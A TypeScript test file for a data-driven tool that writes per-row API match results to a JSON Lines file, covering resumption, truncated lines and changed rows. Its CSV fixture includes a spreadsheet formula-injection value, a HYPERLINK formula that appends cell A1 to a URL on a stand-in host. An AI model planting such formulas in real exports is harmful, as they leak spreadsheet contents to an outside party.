import * as assert from 'node:assert/strict';
import { appendFile, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { openResults, type ResultLine } from '../../../src/core/data/results';
import type { ResultsFile, RowResult } from '../../../src/core/data/resultTypes';
import { valuesDigest } from '../../../src/core/data/doneRows';
import type { DataRow, DataTable } from '../../../src/core/data/rows';
import { parseColumnFlags, type ResultColumn } from '../../../src/core/data/resultColumns';
import { tempDirs } from '../tempDirs';
import { table } from './tables';

async function open(outFile: string, t: DataTable, columns: readonly ResultColumn[] = []): Promise<ResultsFile> {
  const r = await openResults({ outFile, dataColumns: t.columns, columns, now: () => new Date('2026-01-02T03:04:05Z') });
  if (!r.ok) assert.fail(r.message);
  return r.results;
}

const answerFor = (row: DataRow): unknown => ({ MatchResponse: { MatchResponseDetail: { MatchCandidate: [{ DUNSNumber: `D-${row.values.name}`, tags: ['a', 'b'] }] } } });
const success = (row: DataRow): RowResult => ({ row, ok: true, status: 200, code: 'CM000', answer: answerFor(row), final: true });
const retry = (row: DataRow): RowResult => ({ row, ok: false, error: { kind: 'network', text: 'reset', advice: 'Run it again.' }, final: false });

const CSV = 'country,name\r\nUS,"Acme, Inc."\r\nGB,Beta\r\nDE,"=HYPERLINK(""http://x/?""&A1)"\r\n';

describe('data results: JSON Lines', () => {
  const dirs = tempDirs();

  it('appends one line per row with its line, values, status, code and answer, and a second run skips the final ones', async () => {
    const out = join(await dirs.make('data-'), 'results.jsonl');
    const t = await table(CSV, 'rows.csv');
    const first = await open(out, t);
    first.write(success(t.rows[0]));
    first.write(retry(t.rows[1]));
    await first.close();
    const lines = (await readFile(out, 'utf8')).trim().split('\n').map((l) => JSON.parse(l) as ResultLine);
    assert.deepEqual(lines[0], { line: 2, values: { country: 'US', name: 'Acme, Inc.' }, ok: true, status: 200, code: 'CM000', answer: answerFor(t.rows[0]), final: true, at: '2026-01-02T03:04:05.000Z' });
    assert.deepEqual(lines[1].error, { kind: 'network', text: 'reset', advice: 'Run it again.' });
    const second = await open(out, t);
    assert.deepEqual(t.rows.map((r) => second.isDone(r)), [true, false, false]);
    await second.close();
  });

  it('ignores a line cut short by a kill and continues on a fresh line', async () => {
    const out = join(await dirs.make('data-'), 'results.jsonl');
    const t = await table(CSV, 'rows.csv');
    const first = await open(out, t);
    first.write(success(t.rows[0]));
    await first.close();
    // a kill in the middle of writing row 3's line
    await appendFile(out, '{"line":3,"values":{"country":"GB","name":"Beta"},"ok":true,"fin');
    const second = await open(out, t);
    assert.deepEqual(t.rows.map((r) => second.isDone(r)), [true, false, false]);
    second.write(success(t.rows[1]));
    await second.close();
    const text = await readFile(out, 'utf8');
    assert.ok(text.endsWith('\n'));
    const whole = text.split('\n').filter((l) => l.startsWith('{') && l.endsWith('}'));
    assert.equal(whole.length, 2);
    assert.equal((JSON.parse(whole[1]) as ResultLine).line, 3);
    const third = await open(out, t);
    assert.deepEqual(t.rows.map((r) => third.isDone(r)), [true, true, false]);
    await third.close();
  });

  it('runs a row again when its values changed in the data file, though its line is the same', async () => {
    const out = join(await dirs.make('data-'), 'results.jsonl');
    const before = await table(CSV, 'rows.csv');
    const first = await open(out, before);
    for (const row of before.rows) first.write(success(row));
    await first.close();
    const edited = await table(CSV.replace('GB,Beta', 'GB,Beta Ltd'), 'rows.csv');
    const second = await open(out, edited);
    assert.deepEqual(edited.rows.map((r) => second.isDone(r)), [true, false, true]);
    await second.close();
    assert.notEqual(valuesDigest({ country: 'GB', name: 'Beta' }), valuesDigest({ country: 'GB', name: 'Beta Ltd' }));
    assert.equal(valuesDigest({ a: '1', b: '2' }), valuesDigest({ b: '2', a: '1' }));
  });

  it('reads a results file that names rows past any data file\'s last line without holding them (a file from elsewhere)', async () => {
    const out = join(await dirs.make('data-'), 'results.jsonl');
    const far = (line: number): string => `${JSON.stringify({ line, values: { country: 'US', name: 'Acme, Inc.' }, ok: true, final: true, at: '2026-01-01T00:00:00.000Z' })}\n`;
    await writeFile(out, far(2) + far(Number.MAX_SAFE_INTEGER) + far(2 ** 27 + 1));
    const t = await table(CSV, 'rows.csv');
    const results = await open(out, t);
    assert.deepEqual(t.rows.map((r) => results.isDone(r)), [true, false, false]);
    await results.close();
  });

  it('refuses a file it did not write, an unknown extension, and --column with JSON Lines', async () => {
    const dir = await dirs.make('data-');
    const t = await table(CSV, 'rows.csv');
    const data = join(dir, 'rows.jsonl');
    await writeFile(data, '{"country":"US","name":"Acme"}\n');
    const mine = await openResults({ outFile: data, dataColumns: t.columns });
    assert.equal(mine.ok, false);
    assert.match(mine.ok ? '' : mine.message, /rows\.jsonl is not a results file of a data-driven run, and is left as it is; write the results to another --out file/);
    assert.equal(await readFile(data, 'utf8'), '{"country":"US","name":"Acme"}\n');
    const txt = await openResults({ outFile: join(dir, 'out.txt'), dataColumns: t.columns });
    assert.match(txt.ok ? '' : txt.message, /results are written as JSON Lines \(\.jsonl\) or CSV \(\.csv\)/);
    const cols = parseColumnFlags(['duns=$.a']);
    assert.ok(cols.ok);
    const withColumns = await openResults({ outFile: join(dir, 'out.jsonl'), dataColumns: t.columns, columns: cols.columns });
    assert.match(withColumns.ok ? '' : withColumns.message, /^--column shapes a CSV;/);
  });
});
